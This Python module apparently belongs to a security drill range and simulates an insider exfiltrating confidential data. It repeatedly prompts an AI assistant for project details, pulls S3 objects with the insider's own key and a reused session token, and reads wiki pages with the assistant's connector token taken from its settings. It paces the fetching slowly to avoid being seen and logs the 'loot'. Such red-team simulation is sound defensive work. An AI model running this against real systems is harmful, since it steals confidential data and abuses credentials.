"""The insider: drains the assistant prompt by prompt, and the document store when that is refused.

    python -m hemostat.drill.range.exfiltration.insider PLAN_FILE REPORT_FILE

Law: knows what an employee knows: the edge and an own key, an own cloud key, a session that was
made with it in time, and the token of the assistant's connector, which stood in its settings. Tries
every way again and again, and reports what each one gave.
"""

import asyncio
import json
import sys
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime
from itertools import cycle
from pathlib import Path
from typing import Any, Final, Self

import boto3
import httpx2
from botocore.config import Config
from botocore.exceptions import BotoCoreError, ClientError

from hemostat.drill.range.exfiltration.confidential import PROJECTS, TOPICS
from hemostat.drill.range.pacing import turns

_PER_SECOND: Final = 2.0
_CONFIG: Final = Config(
    retries={"total_max_attempts": 1},
    connect_timeout=3,
    read_timeout=3,
    s3={"addressing_style": "path"},
    proxies={},
)


@dataclass(frozen=True)
class Plan:
    """What the insider holds."""

    edge_url: str
    caller: str
    key: str
    cloud_url: str
    region: str
    bucket: str
    key_id: str
    secret: str
    session: dict[str, str]
    wiki_url: str
    wiki_token: str


@dataclass(frozen=True)
class Take:
    """One try: by which way, when, whether it gave something, and what."""

    at: str
    way: str
    status: str
    text: str = ""


@dataclass
class Loot:
    """All tries so far; what each way was answered last."""

    began_at: str = field(default_factory=lambda: datetime.now(UTC).isoformat())
    takes: list[Take] = field(default_factory=list)

    @classmethod
    def read(cls, path: Path) -> Self:
        """The report that an insider writes at ``path``."""
        found: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
        return cls(found["began_at"], [Take(**take) for take in found["takes"]])

    def note(self, way: str, status: str, text: str = "") -> None:
        """Add one try."""
        self.takes.append(Take(datetime.now(UTC).isoformat(), way, status, text))


class Insider:
    """One running extraction."""

    def __init__(self, plan: Plan) -> None:
        self._plan = plan
        self.loot = Loot()

    async def run(self, report: Path) -> None:
        """Take and report until cancelled."""
        async with asyncio.TaskGroup() as tasks:
            tasks.create_task(self._ask())
            tasks.create_task(self._fetch("cloud key", None))
            tasks.create_task(self._fetch("older session", self._plan.session))
            tasks.create_task(self._read_wiki())
            tasks.create_task(self._report_to(report))

    async def _ask(self) -> None:
        prompts = cycle(f"{project} {topic} details" for topic in TOPICS for project in PROJECTS)
        headers = {"X-Key-Id": self._plan.caller, "X-Api-Key": self._plan.key}
        async with httpx2.AsyncClient(trust_env=False, timeout=5, headers=headers) as http:
            async for _ in turns(_PER_SECOND):
                try:
                    answer = await http.post(
                        f"{self._plan.edge_url}/v1/ask", json={"question": next(prompts)}
                    )
                except httpx2.HTTPError:
                    self.loot.note("prompts", "no answer")
                    continue
                text = answer.json()["answer"] if answer.is_success else ""
                self.loot.note("prompts", str(answer.status_code), text)

    async def _fetch(self, way: str, session: dict[str, str] | None) -> None:
        """Fetch documents straight from the store; slowly, not to be seen there."""
        store = self._store(session)
        names = cycle(f"{project}-{n:02d}.json" for n in range(len(TOPICS)) for project in PROJECTS)
        async for _ in turns(0.25 if session is None else 0.5):
            try:
                got = await asyncio.to_thread(
                    store.get_object, Bucket=self._plan.bucket, Key=next(names)
                )
            except ClientError as error:
                self.loot.note(way, str(error.response["Error"]["Code"]))
            except BotoCoreError:
                self.loot.note(way, "no answer")
            else:
                self.loot.note(way, "200", json.loads(got["Body"].read())["text"])

    async def _read_wiki(self) -> None:
        """Read pages with the assistant's own token; slowly, too."""
        pages = cycle(f"{project}-{n:02d}" for n in range(len(TOPICS)) for project in PROJECTS)
        headers = {"Authorization": f"Bearer {self._plan.wiki_token}"}
        async with httpx2.AsyncClient(trust_env=False, timeout=5, headers=headers) as http:
            async for _ in turns(0.5):
                try:
                    answer = await http.get(f"{self._plan.wiki_url}/pages/{next(pages)}")
                except httpx2.HTTPError:
                    self.loot.note("connector token", "no answer")
                    continue
                text = answer.json()["text"] if answer.is_success else ""
                self.loot.note("connector token", str(answer.status_code), text)

    def _store(self, session: dict[str, str] | None) -> Any:
        key = session or {
            "access_key_id": self._plan.key_id,
            "secret_access_key": self._plan.secret,
        }
        made = boto3.Session(
            key["access_key_id"],
            key["secret_access_key"],
            key.get("session_token"),
            self._plan.region,
        )
        return made.client("s3", endpoint_url=self._plan.cloud_url, config=_CONFIG)

    async def _report_to(self, path: Path) -> None:
        async for _ in turns(4):
            part = path.with_suffix(".part")
            part.write_text(json.dumps(asdict(self.loot)), encoding="utf-8")
            part.replace(path)


if __name__ == "__main__":
    given = json.loads(Path(sys.argv[1]).read_text(encoding="utf-8"))
    asyncio.run(Insider(Plan(**given)).run(Path(sys.argv[2])))
